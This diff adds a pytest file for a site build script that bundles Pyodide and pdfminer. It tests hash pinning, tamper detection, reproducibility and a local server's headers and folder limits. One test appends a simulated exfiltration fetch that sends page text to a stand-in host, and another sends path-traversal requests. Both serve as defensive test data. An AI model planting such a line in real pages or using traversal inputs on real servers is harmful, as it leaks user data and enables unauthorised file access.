@@ -1,0 +1,169 @@
+"""build.py: pinned inputs are refused when their hash differs, the check mode finds a tampered folder,
+the folder holds only what the page needs, and the local server sends the right headers."""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import importlib.util
+import io
+import json
+import re
+import shutil
+import sys
+import threading
+import zipfile
+from pathlib import Path
+from urllib.error import HTTPError
+from urllib.request import Request, urlopen
+
+import pytest
+
+REPO = Path(__file__).resolve().parents[1]
+
+
+def _load():
+    spec = importlib.util.spec_from_file_location("site_build", REPO / "build.py")
+    module = importlib.util.module_from_spec(spec)
+    sys.modules["site_build"] = module
+    spec.loader.exec_module(module)
+    return module
+
+
+build = sys.modules.get("site_build") or _load()
+
+
+@pytest.fixture(scope="module")
+def cache() -> Path:
+    """The pinned downloads (fetched once into .cache/ if they are not there yet)."""
+    for pin in build.PINS:
+        build.fetch(pin)
+    return build.CACHE
+
+
+@pytest.fixture(scope="module")
+def built(cache, tmp_path_factory) -> Path:
+    out = tmp_path_factory.mktemp("build") / "dist"
+    build.build(out, cache, quiet=True)
+    return out
+
+
+def test_a_changed_input_is_refused_with_expected_and_actual_hash(cache, tmp_path, capsys):
+    bad_cache = tmp_path / "cache"
+    shutil.copytree(cache, bad_cache)
+    target = bad_cache / build.AES_JS.filename
+    data = bytearray(target.read_bytes())
+    data[100] ^= 1
+    target.write_bytes(bytes(data))
+    out = tmp_path / "dist"
+    assert build.main(["--cache", str(bad_cache), "--out", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert f"expected sha256 {build.AES_JS.sha256}" in err
+    assert f"actual   sha256 {hashlib.sha256(bytes(data)).hexdigest()}" in err
+    assert "Traceback" not in err
+    assert not out.exists()
+
+
+def test_check_passes_on_a_fresh_build_and_names_every_tampered_file(built, tmp_path, capsys):
+    assert build.main(["--check", "--out", str(built)]) == 0
+    copy = tmp_path / "dist"
+    shutil.copytree(built, copy)
+    original = (copy / "app.js").read_bytes()
+    (copy / "app.js").write_bytes(original + b"\nfetch('https://example.invalid/' + document.body.innerText);\n")
+    (copy / "pyodide" / "python_stdlib.zip").unlink()
+    (copy / "extra.js").write_text("1")
+    assert build.main(["--check", "--out", str(copy)]) == 1
+    err = capsys.readouterr().err
+    assert "changed: app.js" in err
+    assert f"expected sha256 {hashlib.sha256(original).hexdigest()}" in err
+    assert "missing: pyodide/python_stdlib.zip" in err
+    assert "not in the manifest: extra.js" in err
+
+
+def test_the_folder_holds_only_what_the_page_needs(built):
+    files = {p.relative_to(built).as_posix() for p in built.rglob("*") if p.is_file()}
+    for needed in ("index.html", "app.js", "worker.js", "style.css", "sw.js", "sample.pdf", "manifest.json",
+                   "pyodide/pyodide.mjs", "pyodide/pyodide.asm.mjs", "pyodide/pyodide.asm.wasm",
+                   "pyodide/python_stdlib.zip", "pyodide/pyodide-lock.json", "vendor/aes.mjs"):
+        assert needed in files
+    assert not [f for f in files if f.endswith((".map", ".d.ts")) or "console" in f]
+    lock = json.loads((built / "pyodide/pyodide-lock.json").read_text())
+    assert sorted(lock["packages"]) == ["charset-normalizer", "cryptography", "pagefurniture", "pdfminer-six"]
+    for entry in lock["packages"].values():  # Pyodide checks each wheel against these
+        assert entry["sha256"] == hashlib.sha256((built / "pyodide" / entry["file_name"]).read_bytes()).hexdigest()
+
+
+def test_pdfminer_ships_without_its_character_maps_which_are_served_apart(built):
+    wheel = zipfile.ZipFile(built / "pyodide" / build.PDFMINER.filename)
+    names = wheel.namelist()
+    assert "pdfminer/pdfdocument.py" in names
+    assert not [n for n in names if n.startswith("pdfminer/cmap/")]
+    assert (built / "pyodide" / build.PDFMINER.filename).stat().st_size < 400_000
+    original = zipfile.ZipFile(build.CACHE / build.PDFMINER.filename)
+    maps = [n for n in original.namelist() if n.startswith("pdfminer/cmap/") and not n.endswith("/")]
+    assert len(maps) > 100
+    for name in maps:
+        assert (built / "cmap" / name.removeprefix("pdfminer/cmap/")).read_bytes() == original.read(name)
+
+
+def test_our_wheel_is_the_package_in_py(built):
+    wheel = zipfile.ZipFile(next((built / "pyodide").glob("pagefurniture-*.whl")))
+    for source in (REPO / "py" / "pagefurniture").glob("*.py"):
+        assert wheel.read(f"pagefurniture/{source.name}") == source.read_bytes()
+
+
+def test_the_build_is_reproducible(built, cache, tmp_path):
+    again = tmp_path / "again"
+    build.build(again, cache, quiet=True)
+    assert json.loads((again / "manifest.json").read_text()) == json.loads((built / "manifest.json").read_text())
+
+
+def test_our_files_name_no_other_origin(built):
+    for name in ("index.html", "app.js", "worker.js", "sw.js", "style.css"):
+        text = (built / name).read_text()
+        assert not re.search(r"(?:https?:)?//[a-z0-9.-]+\.[a-z]{2,}/", text), name
+
+
+def test_first_visit_payload_compressed_is_under_8_mb(built):
+    manifest = json.loads((built / "manifest.json").read_text())
+    total = 0
+    for path in manifest["precache"]:
+        data = (built / path).read_bytes()
+        total += len(gzip.compress(data, 6)) if Path(path).suffix in build.COMPRESS else len(data)
+    assert total <= 8 * 1024 * 1024, total
+
+
+@pytest.fixture(scope="module")
+def served(built):
+    server = build.make_server(built, 0, quiet=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_address[1]}/"
+    server.shutdown()
+    server.server_close()
+
+
+def get(url: str, **headers: str):
+    return urlopen(Request(url, headers=headers))
+
+
+def test_server_types_compression_and_revalidation(served):
+    with get(served + "pyodide/pyodide.asm.wasm", **{"Accept-Encoding": "gzip"}) as response:
+        assert response.headers["Content-Type"] == "application/wasm"
+        assert response.headers["Content-Encoding"] == "gzip"
+        assert "default-src 'self'" in response.headers["Content-Security-Policy"]
+        etag = response.headers["ETag"]
+        body = gzip.decompress(response.read())
+    assert body[:4] == b"\0asm"
+    with get(served + "pyodide/pyodide.mjs") as response:
+        assert response.headers["Content-Type"].startswith("text/javascript")
+        assert "Content-Encoding" not in response.headers
+    with pytest.raises(HTTPError) as caught:
+        get(served + "pyodide/pyodide.asm.wasm", **{"If-None-Match": etag})
+    assert caught.value.code == 304
+
+
+def test_server_keeps_to_its_folder(served):
+    for path in ("../build.py", "%2e%2e/build.py", "nothing-here.js"):
+        with pytest.raises(HTTPError) as caught:
+            get(served + path)
+        assert caught.value.code == 404
